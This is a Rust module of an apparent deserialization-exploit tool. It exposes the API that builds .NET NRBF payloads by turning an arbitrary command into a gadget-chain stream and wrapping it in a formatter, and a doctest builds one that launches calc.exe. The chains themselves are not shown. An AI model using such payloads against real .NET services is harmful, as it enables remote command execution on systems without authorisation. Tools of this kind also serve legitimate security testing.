//! Payload generation entry points.
//!
//! A payload is built in two steps: the named gadget chain turns the command
//! into a record stream, then the named formatter (if any) wraps the stream
//! bytes. Both names are resolved before anything is built, so an unknown
//! name never yields partial output.

use std::sync::OnceLock;

use nrbf_format::SerializedStream;
use tracing::{debug, trace};

use crate::chains::{DEFAULT_GADGET_CHAIN, GadgetChainRegistry};
use crate::error::Result;
use crate::formatter::{DEFAULT_FORMATTER, FormatterRegistry};

/// Options for [`generate`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct GenerateOptions {
    /// Name of the gadget chain.
    pub gadget_chain: String,
    /// Name of the formatter envelope; `None` returns the raw stream bytes.
    pub formatter: Option<String>,
}

impl Default for GenerateOptions {
    fn default() -> Self {
        Self {
            gadget_chain: DEFAULT_GADGET_CHAIN.to_string(),
            formatter: Some(DEFAULT_FORMATTER.to_string()),
        }
    }
}

impl GenerateOptions {
    /// Use the named gadget chain.
    #[must_use]
    pub fn with_gadget_chain(mut self, name: impl Into<String>) -> Self {
        self.gadget_chain = name.into();
        self
    }

    /// Use the named formatter.
    #[must_use]
    pub fn with_formatter(mut self, name: impl Into<String>) -> Self {
        self.formatter = Some(name.into());
        self
    }

    /// Return the raw stream without an envelope.
    #[must_use]
    pub fn raw(mut self) -> Self {
        self.formatter = None;
        self
    }
}

/// Gadget chains and formatters available to one generator.
#[derive(Debug, Clone, Default)]
pub struct Generator {
    chains: GadgetChainRegistry,
    formatters: FormatterRegistry,
}

impl Generator {
    /// Generator over the given registries.
    #[must_use]
    pub fn new(chains: GadgetChainRegistry, formatters: FormatterRegistry) -> Self {
        Self { chains, formatters }
    }

    /// Generator with every chain and formatter this crate implements.
    #[must_use]
    pub fn standard() -> Self {
        Self::new(GadgetChainRegistry::standard(), FormatterRegistry::standard())
    }

    pub fn chains(&self) -> &GadgetChainRegistry {
        &self.chains
    }

    pub fn formatters(&self) -> &FormatterRegistry {
        &self.formatters
    }

    /// Build the payload for `command`.
    ///
    /// # Errors
    ///
    /// Returns `UnsupportedGadgetChain` or `UnsupportedFormatter` for unknown
    /// names, and record or XAML errors if the stream cannot be built.
    pub fn generate(&self, command: &str, options: &GenerateOptions) -> Result<Vec<u8>> {
        let chain = self.chains.get(&options.gadget_chain)?;
        let formatter = options
            .formatter
            .as_deref()
            .map(|name| self.formatters.get(name))
            .transpose()?;

        debug!(
            gadget_chain = chain.name,
            formatter = formatter.map_or("none", |f| f.name),
            "generating payload"
        );
        trace!(command, "payload command");

        let blob = (chain.build)(command)?.to_bytes()?;
        debug!(stream_len = blob.len(), "serialized gadget chain");

        let Some(formatter) = formatter else {
            return Ok(blob);
        };
        let payload = (formatter.wrap)(&blob)?;
        debug!(payload_len = payload.len(), "wrapped payload");
        Ok(payload)
    }

    /// Build the record stream of one gadget chain.
    pub fn generate_gadget_chain(
        &self,
        command: &str,
        gadget_chain: &str,
    ) -> Result<SerializedStream> {
        debug!(gadget_chain, "building gadget chain");
        self.chains.build(gadget_chain, command)
    }

    /// Wrap serialized bytes with one formatter.
    pub fn generate_formatted(&self, blob: &[u8], formatter: &str) -> Result<Vec<u8>> {
        debug!(formatter, blob_len = blob.len(), "wrapping payload");
        self.formatters.wrap(formatter, blob)
    }
}

/// Cached generator with the standard registries.
static DEFAULT_GENERATOR: OnceLock<Generator> = OnceLock::new();

/// Returns the generator with every chain and formatter this crate implements.
///
/// The registries are built on first access.
pub fn default_generator() -> &'static Generator {
    DEFAULT_GENERATOR.get_or_init(Generator::standard)
}

/// Build the payload for `command` with the default generator.
///
/// ```
/// use nrbf_gadget::{GenerateOptions, generate};
///
/// let payload = generate("calc.exe", &GenerateOptions::default()).unwrap();
/// assert_eq!(&payload[..3], &[0xFF, 0x01, 0x32]);
/// ```
pub fn generate(command: &str, options: &GenerateOptions) -> Result<Vec<u8>> {
    default_generator().generate(command, options)
}

/// Build the record stream of one gadget chain with the default generator.
pub fn generate_gadget_chain(command: &str, gadget_chain: &str) -> Result<SerializedStream> {
    default_generator().generate_gadget_chain(command, gadget_chain)
}

/// Wrap serialized bytes with one formatter of the default generator.
pub fn generate_formatted(blob: &[u8], formatter: &str) -> Result<Vec<u8>> {
    default_generator().generate_formatted(blob, formatter)
}
